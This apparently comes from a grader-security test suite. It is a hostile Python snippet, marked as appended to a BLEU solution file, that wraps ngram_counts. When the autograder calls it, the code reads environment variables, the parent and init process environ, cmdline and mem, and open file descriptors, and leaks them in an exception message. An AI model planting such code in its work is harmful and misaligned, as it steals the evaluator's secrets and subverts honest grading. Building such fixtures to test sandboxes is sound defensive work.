# hostile: appended to solutions/bleu.py
# A11: look for the grader's secrets: our environment, the grading process's environment and command line
# (/proc/<parent>), the first process's environment, and the file descriptors we inherited.
import json
import os
import sys

# @@RUNTIME_NAMES@@


def _read(path) -> str:
    try:
        with open(path, "rb") as f:
            data = f.read()
        return f"read {len(data)}"
    except Exception as exc:  # noqa: BLE001
        return type(exc).__name__


def _fds() -> list:
    kinds = []
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        kinds.append(target.split(":")[0] if ":" in target else os.path.basename(target))
    return kinds


def _probe() -> dict:
    parent = os.getppid()
    return {"env": {k: v[:60] for k, v in sorted(os.environ.items())},
            "parent_environ": _read(f"/proc/{parent}/environ"),
            "parent_cmdline": _read(f"/proc/{parent}/cmdline"), "init_environ": _read("/proc/1/environ"),
            "parent_mem": _read(f"/proc/{parent}/mem"), "fds": _fds()}


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps(_probe(), separators=(",", ":")))
    return _reference_ngram_counts(tokens, n)
